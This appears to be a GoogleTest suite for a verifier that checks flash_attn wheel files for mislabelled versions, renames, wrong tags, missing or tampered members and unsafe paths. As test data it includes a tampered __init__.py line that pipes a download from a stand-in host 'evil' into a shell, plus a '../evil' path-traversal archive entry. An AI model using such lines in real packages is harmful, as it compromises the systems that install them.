#include "wheel/verify.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>

#include "../support/scratch_dir.h"
#include "../support/wheel_writer.h"
#include "matrix/expand.h"
#include "matrix/loader.h"
#include "util/hash.h"

namespace fabuild {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;

WheelExpectation cp312_cu128() {
  WheelExpectation e;
  e.dist_name = "flash_attn";
  e.version = "2.8.3+cu128torch2.8cxx11abiTRUE";
  e.python_tag = "cp312";
  e.abi_tag = "cp312";
  e.platform_tag = "linux_x86_64";
  e.required_members = {"flash_attn_2_cuda*.so"};
  return e;
}

class Verify : public ::testing::Test {
 protected:
  test::ScratchDir dir_{"verify"};
  test::TestWheel wheel_;

  WheelVerdict verify() { return verify_wheel(wheel_.write(dir_.path()), cp312_cu128()); }
};

TEST_F(Verify, AGoodWheelPassesAndReportsWhatItIs) {
  const fs::path path = wheel_.write(dir_.path());
  const WheelVerdict v = verify_wheel(path, cp312_cu128());
  EXPECT_THAT(v.problems, IsEmpty());
  EXPECT_TRUE(v.ok());
  EXPECT_EQ(v.info.name, "flash_attn");
  EXPECT_EQ(v.info.version, "2.8.3+cu128torch2.8cxx11abiTRUE");
  EXPECT_EQ(v.info.tags, std::vector<std::string>{"cp312-cp312-linux_x86_64"});
  EXPECT_EQ(v.info.size, fs::file_size(path));
  EXPECT_EQ(v.info.sha256, hex(sha256_of_file(path).value()));
}

TEST_F(Verify, ALowerCaseLabelInMetadataIsTheSameVersion) {
  wheel_.metadata_version = "2.8.3+cu128torch2.8cxx11abitrue";  // what setuptools writes
  EXPECT_THAT(verify().problems, IsEmpty());
}

TEST_F(Verify, MetadataBuiltWithAnotherLabelIsAMislabelledWheelToRebuild) {
  wheel_.metadata_version = "2.8.3+cu126torch2.8cxx11abiTRUE";  // a cu126 build named as cu128
  const WheelVerdict v = verify();
  ASSERT_THAT(v.problems, SizeIs(1));
  EXPECT_THAT(v.problems[0], AllOf(HasSubstr("METADATA says Version \"2.8.3+cu126torch2.8cxx11abiTRUE\""),
                                   HasSubstr("its file name says \"2.8.3+cu128torch2.8cxx11abiTRUE\""),
                                   HasSubstr("mislabelled"), HasSubstr("never rename a built wheel"),
                                   HasSubstr("FLASH_ATTN_LOCAL_VERSION=cu128torch2.8cxx11abiTRUE")));
}

TEST_F(Verify, AnotherCellsWheelIsOneProblemNamingTheLabelToBuildWith) {
  wheel_.version = wheel_.metadata_version = "2.8.3+cu126torch2.8cxx11abiTRUE";
  EXPECT_THAT(verify().problems,
              ElementsAre(AllOf(HasSubstr("the wheel is version \"2.8.3+cu126torch2.8cxx11abiTRUE\""),
                                HasSubstr("the cell expects \"2.8.3+cu128torch2.8cxx11abiTRUE\""),
                                HasSubstr("FLASH_ATTN_LOCAL_VERSION=cu128torch2.8cxx11abiTRUE"))));
}

TEST_F(Verify, ARightBuildUnderAnotherFileNameIsCaughtAsRenamed) {
  wheel_.version = "2.8.3+cu126torch2.8cxx11abiTRUE";  // METADATA still says cu128, as expected
  EXPECT_THAT(verify().problems,
              ElementsAre(AllOf(HasSubstr("the file name says version \"2.8.3+cu126torch2.8cxx11abiTRUE\""),
                                HasSubstr("METADATA says \"2.8.3+cu128torch2.8cxx11abiTRUE\": the file was renamed"),
                                HasSubstr("never rename a built wheel"))));
}

// naming: upstream, as FlashAttention publishes: METADATA and the built file say the plain
// version; fabuild files it under the label, which its setup.py's download path renames away.
WheelExpectation upstream_cp312() {
  WheelExpectation e = cp312_cu128();
  e.version = "2.8.3";
  e.file_version = "2.8.3+cu12torch2.8cxx11abiTRUE";
  return e;
}

TEST_F(Verify, UpstreamNamingTakesThePlainBuildAndItsLabelledFilingName) {
  wheel_.version = wheel_.metadata_version = "2.8.3";
  EXPECT_THAT(verify_wheel(wheel_.write(dir_.path()), upstream_cp312()).problems, IsEmpty());
  wheel_.version = "2.8.3+cu12torch2.8cxx11abiTRUE";  // as filed
  EXPECT_THAT(verify_wheel(wheel_.write(dir_.path()), upstream_cp312()).problems, IsEmpty());
}

TEST_F(Verify, UpstreamNamingRefusesALabelInMetadataOrAnotherLabelInTheName) {
  wheel_.version = wheel_.metadata_version = "2.8.3+cu12torch2.8cxx11abiTRUE";  // the label leaked into METADATA
  EXPECT_THAT(verify_wheel(wheel_.write(dir_.path()), upstream_cp312()).problems,
              ElementsAre(AllOf(HasSubstr("METADATA says Version \"2.8.3+cu12torch2.8cxx11abiTRUE\""),
                                HasSubstr("the cell expects \"2.8.3\""))));
  wheel_.metadata_version = "2.8.3";
  wheel_.version = "2.8.3+cu12torch2.6cxx11abiTRUE";  // another cell's label
  EXPECT_THAT(verify_wheel(wheel_.write(dir_.path()), upstream_cp312()).problems,
              ElementsAre(HasSubstr("the file name says version \"2.8.3+cu12torch2.6cxx11abiTRUE\"")));
}

TEST_F(Verify, AnotherProjectsMetadataNameIsCaught) {
  wheel_.metadata_name = "flash_attn_3";
  EXPECT_THAT(verify().problems, ElementsAre(AllOf(HasSubstr("Name \"flash_attn_3\""), HasSubstr("\"flash_attn\""))));
}

TEST_F(Verify, NameSpellingsThatNormaliseAlikeAgree) {
  wheel_.metadata_name = "Flash-Attn";
  EXPECT_THAT(verify().problems, IsEmpty());
}

TEST_F(Verify, AWheelForAnotherPythonIsCaughtInItsNameAndItsWheelFile) {
  wheel_.tag = "cp311-cp311-linux_x86_64";
  const WheelVerdict v = verify();
  EXPECT_THAT(v.problems, Contains(HasSubstr("the file name's tags are \"cp311-cp311-linux_x86_64\"")));
  EXPECT_THAT(v.problems, Contains(AllOf(HasSubstr("WHEEL has Tag \"cp311-cp311-linux_x86_64\""),
                                         HasSubstr("not \"cp312-cp312-linux_x86_64\""))));
}

TEST_F(Verify, ATamperedMemberFailsItsRecordHash) {
  wheel_.tampered["flash_attn/__init__.py"] = "import os; os.system('curl evil | sh')\n";
  EXPECT_THAT(verify().problems,
              ElementsAre(AllOf(HasSubstr("flash_attn/__init__.py's bytes do not match its hash in RECORD"),
                                HasSubstr("RECORD says 22"), HasSubstr("rebuild"))));
}

TEST_F(Verify, AMemberMissingFromRecordIsCaught) {
  wheel_.files["flash_attn/extra.py"] = "x = 1\n";
  wheel_.unrecorded = {"flash_attn/extra.py"};
  EXPECT_THAT(verify().problems, ElementsAre(HasSubstr("flash_attn/extra.py is in the wheel but not in RECORD")));
}

TEST_F(Verify, ARecordEntryWithoutAMemberIsCaught) {
  wheel_.extra_record = "flash_attn/gone.py,sha256=AAAA,1\n";
  EXPECT_THAT(verify().problems, ElementsAre(HasSubstr("lists flash_attn/gone.py, which is not in the wheel")));
}

TEST_F(Verify, AWheelWithoutItsCudaExtensionFails) {
  wheel_.files.erase("flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so");
  EXPECT_THAT(verify().problems, ElementsAre(HasSubstr("no member matching \"flash_attn_2_cuda*.so\"")));
}

TEST_F(Verify, AWheelWithoutRecordFails) {
  wheel_.with_record = false;
  EXPECT_THAT(verify().problems,
              ElementsAre(HasSubstr("has no flash_attn-2.8.3+cu128torch2.8cxx11abiTRUE.dist-info/RECORD")));
}

TEST_F(Verify, EveryProblemIsReportedNotJustTheFirst) {
  wheel_.metadata_name = "other";
  wheel_.tampered["flash_attn/__init__.py"] = "changed";
  wheel_.files.erase("flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so");
  EXPECT_THAT(verify().problems, SizeIs(3));
}

TEST_F(Verify, NotAZipIsOneProblemNotACrash) {
  const fs::path path = dir_.path() / wheel_.file_name();
  std::ofstream(path) << "Traceback (most recent call last):\n";
  const WheelVerdict v = verify_wheel(path, cp312_cu128());
  EXPECT_THAT(v.problems, ElementsAre(HasSubstr("zip")));
  EXPECT_FALSE(v.info.sha256.empty());
}

TEST_F(Verify, AnEscapingMemberIsRefused) {
  const fs::path path = dir_.path() / wheel_.file_name();
  test::write_zip(path, {{wheel_.dist_info() + "/METADATA", "Name: flash_attn\n"}, {"../evil", "x"}});
  EXPECT_THAT(verify_wheel(path, cp312_cu128()).problems, ElementsAre(HasSubstr("\"../evil\" is unsafe to install")));
}

TEST_F(Verify, AFileNameThatIsNotAWheelNameIsAProblem) {
  const fs::path good = wheel_.write(dir_.path());
  const fs::path bad = dir_.path() / "flash_attn.whl";
  fs::rename(good, bad);
  EXPECT_THAT(verify_wheel(bad, cp312_cu128()).problems, ElementsAre(HasSubstr("not a valid wheel file name")));
}

TEST(Expectation, ComesFromTheCellsLayout) {
  const Expansion x =
      expand(parse_matrix("versions: [2.8.3]\ntorch: [\"2.8\"]\ncuda: [\"12.8\"]\npython: [cp312]\n", "m.yaml"));
  ASSERT_EQ(x.cells.size(), 1u);
  const WheelExpectation e = expectation_for(x.cells[0], {"flash_attn_2_cuda*.so"});
  EXPECT_EQ(e.dist_name, "flash_attn");
  EXPECT_EQ(e.version, "2.8.3+cu128torch2.8cxx11abiTRUE");
  EXPECT_EQ(e.python_tag + "-" + e.abi_tag + "-" + e.platform_tag, "cp312-cp312-linux_x86_64");
  EXPECT_EQ(e.local_version_env, "FLASH_ATTN_LOCAL_VERSION");
}

}  // namespace
}  // namespace fabuild
